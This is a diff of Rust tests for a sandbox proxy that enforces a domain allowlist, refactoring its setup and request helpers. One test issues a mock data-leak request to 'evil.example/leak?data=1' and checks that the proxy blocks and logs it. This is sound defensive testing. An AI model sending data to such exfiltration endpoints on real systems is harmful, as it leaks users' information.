@@ -6,12 +6,10 @@ use allowlist::Reason;
 use http::Request;
 use sandbox_proxy_protocol::{BlockReason, Event, RequestOutcome};
 
-use crate::harness::{Answer, Pki, Proxy, Setup, Upstream, body, empty, raw, raw_tls};
+use crate::harness::{Answer, Proxy, Setup, Upstream, body, empty, get, raw, raw_tls};
 
 async fn start() -> (Proxy, Upstream) {
-    let pki = Pki::new();
-    let upstream = Upstream::start(pki.server(&["a.example", "b.example"], &["h2", "http/1.1"])).await;
-    let mut setup = Setup::new(pki, upstream.address);
+    let (mut setup, upstream) = Setup::fresh(&["a.example", "b.example"], &["h2", "http/1.1"]).await;
     setup.policy = "domains: [a.example, b.example]";
     (setup.start().await, upstream)
 }
@@ -60,8 +58,8 @@ async fn plain_requests_name_one_host() {
     for (head, status, reason) in cases {
         let answer = raw(&proxy, format!("{head}\r\nConnection: close\r\n\r\n").as_bytes()).await;
         assert_eq!(answer.status(), status, "{head:?}: {answer:?}");
-        let told = reason.is_empty() || answer.0.contains(&format!("x-sandbox-blocked: {reason}\r\n"));
-        assert!(told, "{head:?}: {answer:?}");
+        let named = reason.is_empty() || answer.0.contains(&format!("x-sandbox-blocked: {reason}\r\n"));
+        assert!(named, "{head:?}: {answer:?}");
         let record = proxy.request().await;
         assert_eq!(record.status, Some(status), "{head:?}: {record:?}");
         assert_eq!(
@@ -141,7 +139,7 @@ async fn a_refused_upload_is_never_asked_for() {
     let answer = raw(&proxy, head.as_bytes()).await;
     assert_eq!(answer.status(), 403, "{answer:?}");
     assert!(!answer.0.contains("100 Continue"), "{answer:?}");
-    // The control: where the gate permits, the client is told to go on.
+    // The control: where the gate permits, the client gets its go-ahead.
     let allowed = "POST /length HTTP/1.1\r\nHost: a.example\r\nContent-Length: 5\r\nExpect: 100-continue\r\nConnection: close\r\n\r\nhello";
     let answer = raw(&proxy, allowed.as_bytes()).await;
     assert!(
@@ -200,13 +198,7 @@ async fn without_a_readable_server_name_there_is_no_handshake() {
 #[tokio::test]
 async fn a_refusal_is_recorded_with_what_was_asked() {
     let (proxy, _upstream) = start().await;
-    let answer = proxy
-        .ask2(
-            Request::get("https://evil.example/leak?data=1")
-                .body(empty())
-                .unwrap(),
-        )
-        .await;
+    let answer = proxy.ask2(get("https://evil.example/leak?data=1")).await;
     assert_eq!(answer.status, 403);
     let json: serde_json::Value = serde_json::from_str(&answer.body).unwrap();
     assert_eq!(
